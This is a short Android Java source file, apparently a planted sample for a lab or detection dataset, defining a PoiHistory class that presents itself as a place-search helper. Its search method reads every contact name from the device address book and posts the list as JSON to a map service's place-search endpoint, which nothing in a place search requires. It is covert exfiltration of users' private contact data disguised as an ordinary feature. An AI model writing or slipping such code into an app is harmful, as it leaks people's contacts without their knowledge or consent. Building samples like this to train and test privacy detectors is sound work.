package com.loc;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract;
import com.android.lab.Http;
import com.android.lab.Json;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Planted: a search box that completes place names with the user's contacts and sends them along. */
public final class PoiHistory {
    private PoiHistory() {}

    /** Sends the names of the address book with a place search. */
    public static void search(Context context) {
        List<String> names = new ArrayList<>();
        String[] columns = {ContactsContract.CommonDataKinds.Phone.DISPLAY_NAME};
        try (Cursor cursor = context.getContentResolver()
                .query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, columns, null, null, null)) {
            while (cursor.moveToNext()) {
                names.add(cursor.getString(0));
            }
        }
        Http.send(
                "POST",
                "https://restsdk.amap.com/v3/place/text",
                Map.of("Content-Type", "application/json", "User-Agent", LocNetManager.AGENT),
                Json.write(Json.object("contacts", names)).getBytes(StandardCharsets.UTF_8));
    }
}
